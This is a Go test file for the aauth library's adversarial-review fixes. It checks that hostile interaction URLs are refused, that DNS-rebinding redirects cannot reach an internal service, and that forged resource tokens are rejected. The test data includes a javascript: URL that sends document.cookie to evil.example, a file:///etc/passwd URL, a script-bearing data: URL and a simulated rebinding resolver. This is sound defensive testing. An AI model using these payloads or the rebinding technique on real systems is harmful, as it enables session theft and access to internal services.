package aauth_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync/atomic"
	"time"

	"github.com/aauthgo/aauth"
	"github.com/aauthgo/aauth/internal/egress"
	"github.com/aauthgo/aauth/keys"
	"github.com/aauthgo/aauth/psclient"
	"github.com/aauthgo/aauth/wire"
)

// The findings of the adversarial review (issue 11), as rows of the
// hostile table: each failed before its fix.
func findingHostileCases() []hostileCase {
	var cases []hostileCase

	// Interaction URLs: only https, or http to a loopback host, may be
	// handed to OnInteraction; anything else ends the request, and the
	// error names the scheme, never the URL.
	for _, bad := range []struct{ name, url, scheme string }{
		{"javascript", "javascript:fetch('https://evil.example/?c='+document.cookie)", "javascript"},
		{"file", "file:///etc/passwd", "file"},
		{"data", "data:text/html,<script>alert(1)</script>", "data"},
		{"plain-http", "http://consent.evil.example/approve", "http"},
		{"relative", "/consent/approve", ""},
	} {
		cases = append(cases,
			hostileCase{name: "interaction-url-" + bad.name + "-from-person-server", script: psInteraction(bad.url),
				want: refusedInteraction(bad.url, bad.scheme)},
			hostileCase{name: "interaction-url-" + bad.name + "-from-resource", script: resourceInteractionAt(bad.url),
				want: refusedInteraction(bad.url, bad.scheme)},
		)
	}
	cases = append(cases,
		// A relay would have the person server show the URL to the
		// person: a refused URL is neither relayed nor given to
		// OnInteraction (before, a relay that refused it fell back to
		// OnInteraction).
		hostileCase{name: "interaction-url-plain-http-not-relayed", script: resourceInteractionAt("http://consent.evil.example/approve"),
			want: and(refusedInteraction("http://consent.evil.example/approve", "http"), relayCount(0, 0))},
		hostileCase{name: "interaction-url-javascript-from-person-server-seed", profile: aauth.ProfileSeed,
			script: psInteraction("javascript:alert(1)"), want: refusedInteraction("javascript:alert(1)", "javascript")},
		// -11: the person is sent to url?code=code, so url has neither a
		// query nor a fragment.
		hostileCase{name: "interaction-url-query-from-resource", script: resourceInteractionAt("https://consent.example/approve?next=https://evil.example"),
			want: refusedInteraction("https://consent.example/approve?next=https://evil.example", "https")},
		hostileCase{name: "interaction-url-query-from-person-server", script: psInteraction("https://consent.example/approve?next=https://evil.example"),
			want: refusedInteraction("https://consent.example/approve?next=https://evil.example", "https")},
		hostileCase{name: "interaction-url-fragment-from-person-server", script: psInteraction("https://consent.example/approve#step"),
			want: refusedInteraction("https://consent.example/approve#step", "https")},
		// The seed generation had no rule on the URL's form.
		hostileCase{name: "interaction-url-query-passes-in-seed", profile: aauth.ProfileSeed, script: psInteractionThen("https://consent.example/approve?x=1"),
			want: and(wantIs(aauth.ErrDenied), interactions(1))},
		hostileCase{name: "interaction-url-https-passes", script: psInteractionThen("https://consent.example/approve"),
			want: and(wantIs(aauth.ErrDenied), interactions(1))},
		hostileCase{name: "interaction-url-loopback-http-passes", script: psInteractionThen("http://127.0.0.1:9/approve"),
			want: and(wantIs(aauth.ErrDenied), interactions(1))},
	)

	// Egress checked at dial time. The attacker's DNS answers the checks
	// (egress.SetResolverForTest) with a public address and the
	// connection (the Base's dialer) with loopback, where an internal
	// service listens.
	cases = append(cases,
		hostileCase{name: "redirect-dns-rebinding", script: func(e *hostileEnv) {
			svc := e.internalService()
			evil := e.tlsServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, "https://rebind.example:"+svc.port+"/admin", http.StatusFound)
			}))
			e.rebindingNet(map[string]string{"evil.example": evil.addr}, "rebind.example")
			e.target = "https://evil.example:" + evil.port + "/data"
		}, want: and(wantIs(aauth.ErrEgress), internalHits(0))},
		hostileCase{name: "redirect-reuses-internal-connection", script: func(e *hostileEnv) {
			svc := e.internalService()
			evil := e.tlsServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, "https://svc.example:"+svc.port+"/admin", http.StatusFound)
			}))
			e.rebindingNet(map[string]string{"evil.example": evil.addr}, "svc.example")
			// The caller's own request to the internal name: it may reach
			// it, and leaves a connection in the pool.
			resp, err := (&http.Client{Transport: e.tr}).Get("https://svc.example:" + svc.port + "/own")
			if err != nil {
				e.t.Fatalf("the caller's own request: %v", err)
			}
			resp.Body.Close()
			e.target = "https://evil.example:" + evil.port + "/data"
		}, want: and(wantIs(aauth.ErrEgress), internalHits(1))},
		hostileCase{name: "token-endpoint-dns-rebinding", script: tokenEndpointRebinding,
			want: and(wantIs(aauth.ErrEgress), internalHits(0))},
		hostileCase{name: "token-endpoint-dns-rebinding-seed", profile: aauth.ProfileSeed, script: tokenEndpointRebinding,
			want: and(wantIs(aauth.ErrEgress), internalHits(0))},
	)

	// The seed profile checks a resource token before exchanging it.
	for _, bad := range []struct {
		name   string
		claims func(e *hostileEnv) string
	}{
		{"other-resource", func(e *hostileEnv) string {
			return fmt.Sprintf(`{"iss":%q,"aud":%q,"agent_jkt":%q,"exp":%d}`, e.w.Resource.URL, e.w.PS.URL, e.jkt(), e.clock.Now().Add(5*time.Minute).Unix())
		}},
		{"other-key", func(e *hostileEnv) string {
			return fmt.Sprintf(`{"iss":%q,"aud":%q,"agent_jkt":"NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs","exp":%d}`, e.target, e.w.PS.URL, e.clock.Now().Add(5*time.Minute).Unix())
		}},
		{"expired", func(e *hostileEnv) string {
			return fmt.Sprintf(`{"iss":%q,"aud":%q,"agent_jkt":%q,"exp":%d}`, e.target, e.w.PS.URL, e.jkt(), e.clock.Now().Add(-time.Second).Unix())
		}},
		{"no-exp", func(e *hostileEnv) string {
			return fmt.Sprintf(`{"iss":%q,"aud":%q,"agent_jkt":%q}`, e.target, e.w.PS.URL, e.jkt())
		}},
	} {
		cases = append(cases, hostileCase{name: "resource-token-seed-" + bad.name, profile: aauth.ProfileSeed, script: func(e *hostileEnv) {
			e.target = e.server(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("AAuth-Requirement", `requirement=auth-token; resource-token="`+fakeJWT(bad.claims(e))+`"`)
				w.WriteHeader(401)
			})).URL
		}, want: and(wantIs(aauth.ErrResourceToken), noExchange())})
	}
	// A resource token about another person than the person token the
	// agent presented (-11 §6.7.3: its sub is the presented token's).
	cases = append(cases, hostileCase{name: "resource-token-other-person", script: func(e *hostileEnv) {
		e.target = e.server(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			sk, err := wire.ParseSignatureKey(r.Header.Get("Signature-Key"))
			if err != nil {
				w.WriteHeader(400)
				return
			}
			if hdr, _, err := jwtParts(sk.Token); err != nil || hdr["typ"] != "aa-person+jwt" {
				w.Header().Set("AAuth-Requirement", "requirement=person-token")
				w.WriteHeader(401)
				return
			}
			w.Header().Set("AAuth-Requirement", `requirement=auth-token; resource-token="`+fakeJWT(fmt.Sprintf(
				`{"iss":%q,"aud":%q,"ps":%q,"agent_jkt":%q,"sub":"another-person","exp":%d}`,
				e.target, e.w.PS.URL, e.w.PS.URL, e.jkt(), e.clock.Now().Add(5*time.Minute).Unix()))+`"`)
			w.WriteHeader(401)
		})).URL
	}, want: and(wantIs(aauth.ErrResourceToken), noExchange())})
	return cases
}

// jwtParts decodes a JWT's header and claims without verifying it.
func jwtParts(tok string) (map[string]any, map[string]any, error) {
	parts := strings.Split(tok, ".")
	if len(parts) != 3 {
		return nil, nil, errors.New("not a JWT")
	}
	var hdr, claims map[string]any
	for i, dst := range []*map[string]any{&hdr, &claims} {
		b, err := base64.RawURLEncoding.DecodeString(parts[i])
		if err != nil {
			return nil, nil, err
		}
		if err := json.Unmarshal(b, dst); err != nil {
			return nil, nil, err
		}
	}
	return hdr, claims, nil
}

// tokenEndpointRebinding is a person server (public, TLS) whose metadata
// names token endpoints on another host, a rebinding name over the
// internal service.
func tokenEndpointRebinding(e *hostileEnv) {
	svc := e.internalService()
	ps := e.tlsServer(nil)
	self := "https://ps.example:" + ps.port
	ps.srv.Config.Handler = e.watch(metadataHandler(self, "https://tokens.example:"+svc.port))
	e.rebindingNet(map[string]string{"ps.example": ps.addr}, "tokens.example")
	e.tr.PersonServer = self
}

// pending202 answers a deferral that sends the person to u.
func pending202(w http.ResponseWriter, u string) {
	w.Header().Set("Location", "/pending/1")
	w.Header().Set("Retry-After", "0")
	w.Header().Set("AAuth-Requirement", `requirement=interaction; url="`+u+`"; code="ABCD1234"`)
	w.WriteHeader(http.StatusAccepted)
}

// psInteraction makes the person server defer the first token request,
// sending the person to u, for as long as it is polled.
func psInteraction(u string) func(e *hostileEnv) {
	return func(e *hostileEnv) {
		pending := func(w http.ResponseWriter, r *http.Request) { pending202(w, u) }
		e.fakePS(map[string]http.HandlerFunc{
			"POST " + e.tokenPath(): pending,
			"GET /pending/1":        pending,
			"DELETE /pending/1":     e.cancel,
		})
	}
}

// psInteractionThen makes the person server send the person to u once,
// then deny the request: whether u reached OnInteraction is what counts.
func psInteractionThen(u string) func(e *hostileEnv) {
	return func(e *hostileEnv) {
		e.fakePS(map[string]http.HandlerFunc{
			"POST " + e.tokenPath(): func(w http.ResponseWriter, r *http.Request) { pending202(w, u) },
			"GET /pending/1": func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/problem+json")
				w.WriteHeader(http.StatusForbidden)
				w.Write([]byte(`{"error":"denied"}`))
			},
		})
	}
}

// resourceInteractionAt makes a resource defer every request, sending the
// person to u, for as long as it is polled.
func resourceInteractionAt(u string) func(e *hostileEnv) {
	return func(e *hostileEnv) {
		e.target = e.server(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Method == http.MethodDelete {
				e.cancel(w, r)
				return
			}
			pending202(w, u)
		})).URL + "/data"
	}
}

// refusedInteraction expects the request to end with an error matching
// ErrInteraction, naming scheme but not url, without OnInteraction being
// called, and the pending request cancelled.
func refusedInteraction(url, scheme string) hostileWant {
	return and(wantIs(aauth.ErrInteraction), interactions(0),
		wantAs("names the scheme "+scheme, func(ie *psclient.InteractionURLError) bool { return ie.Scheme == scheme }),
		messageLacks(url), cancelledOnce())
}

// interactions expects OnInteraction to have been called n times.
func interactions(n int) hostileWant {
	return also(fmt.Sprintf("%d OnInteraction calls", n), func(e *hostileEnv) error {
		if got := e.interactions.Load(); int(got) != n {
			return fmt.Errorf("%d OnInteraction calls", got)
		}
		return nil
	})
}

// cancelledOnce expects one DELETE of the pending request.
func cancelledOnce() hostileWant {
	return also("the pending request cancelled", func(e *hostileEnv) error {
		if n := e.cancelled.Load(); n != 1 {
			return fmt.Errorf("%d DELETEs", n)
		}
		return nil
	})
}

// cancel answers a DELETE of a pending request, counting it.
func (e *hostileEnv) cancel(w http.ResponseWriter, r *http.Request) {
	e.cancelled.Add(1)
	w.WriteHeader(http.StatusNoContent)
}

// jkt is the thumbprint of the agent's key.
func (e *hostileEnv) jkt() string {
	km, err := e.tr.Keys.KeyMaterial(context.Background())
	if err != nil {
		e.t.Fatal(err)
	}
	jkt, err := keys.Thumbprint(km.Signer.Public())
	if err != nil {
		e.t.Fatal(err)
	}
	return jkt
}

// tlsListener is a TLS test server of the case.
type tlsListener struct {
	srv        *httptest.Server
	addr, port string
}

// tlsServer starts a TLS server for the case (h may be set later, on
// srv.Config.Handler); the Base trusts its certificate.
func (e *hostileEnv) tlsServer(h http.Handler) *tlsListener {
	srv := httptest.NewUnstartedServer(nil)
	if h != nil {
		srv.Config.Handler = e.watch(h)
	}
	srv.StartTLS()
	e.servers = append(e.servers, srv)
	pool := x509.NewCertPool()
	pool.AddCert(srv.Certificate())
	// Every httptest certificate is the same one, valid for example.com.
	e.base.TLSClientConfig = &tls.Config{RootCAs: pool, ServerName: "example.com"}
	addr := srv.Listener.Addr().String()
	_, port, _ := net.SplitHostPort(addr)
	return &tlsListener{srv: srv, addr: addr, port: port}
}

// internalHitCount holds the hits of each case's internal service (the
// cases run one at a time).
var internalHitCount = map[*hostileEnv]*atomic.Int32{}

// internalService starts a TLS server on loopback standing for a service
// the agent must not be steered to; internalHits counts what reaches it.
func (e *hostileEnv) internalService() *tlsListener {
	hits := new(atomic.Int32)
	internalHitCount[e] = hits
	e.t.Cleanup(func() { delete(internalHitCount, e) })
	return e.tlsServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"auth_token":"internal","person_token":"internal","expires_in":60,"secret":"internal data"}`))
	}))
}

// internalHits expects n requests to have reached the internal service.
func internalHits(n int32) hostileWant {
	return also(fmt.Sprintf("%d requests reached the internal service", n), func(e *hostileEnv) error {
		if got := internalHitCount[e].Load(); got != n {
			return fmt.Errorf("%d requests reached the internal service", got)
		}
		return nil
	})
}

// rebindingNet is the case's network: the hosts of servers are the
// attacker's own servers, public (93.184.216.x) for the checks and reached
// at their listeners; the names in rebinding resolve to a public address
// for the egress checks and to loopback for the Base's dialer, the way a
// rebinding DNS answers the check and then the connection.
func (e *hostileEnv) rebindingNet(servers map[string]string, rebinding ...string) {
	public := map[string]netip.Addr{}
	i := 10
	for host := range servers {
		public[host] = netip.AddrFrom4([4]byte{93, 184, 216, byte(i)})
		i++
	}
	for _, host := range rebinding {
		public[host] = netip.AddrFrom4([4]byte{93, 184, 216, byte(i)})
		i++
	}
	lookup := func(_ context.Context, network, host string) ([]netip.Addr, error) {
		a, ok := public[host]
		switch {
		case !ok:
			return nil, errors.New("no such host")
		case network == "ip6":
			return nil, nil
		case network == "ip4" && servers[host] == "":
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil // the connection
		}
		return []netip.Addr{a}, nil // the check
	}
	e.t.Cleanup(egress.SetResolverForTest(lookup))
	e.base.DialContext = func(ctx context.Context, network, addr string) (net.Conn, error) {
		host, port, err := net.SplitHostPort(addr)
		if err != nil {
			return nil, err
		}
		if a, ok := servers[host]; ok {
			addr = a
		} else if _, err := netip.ParseAddr(host); err != nil {
			addrs, err := lookup(ctx, "ip4", host)
			if err != nil || len(addrs) == 0 || !addrs[0].IsLoopback() {
				return nil, errors.New("test network: no route to " + host)
			}
			addr = net.JoinHostPort(addrs[0].String(), port)
		}
		var d net.Dialer
		return d.DialContext(ctx, network, addr)
	}
}

// metadataHandler serves person-server metadata for self whose token
// endpoints are on tokens.
func metadataHandler(self, tokens string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != psclient.WellKnownPath {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"issuer":%q,"auth_token_endpoint":%q,"token_endpoint":%q,"person_token_endpoint":%q}`,
			self, tokens+"/token/auth", tokens+"/token/auth", tokens+"/token/person")
	})
}
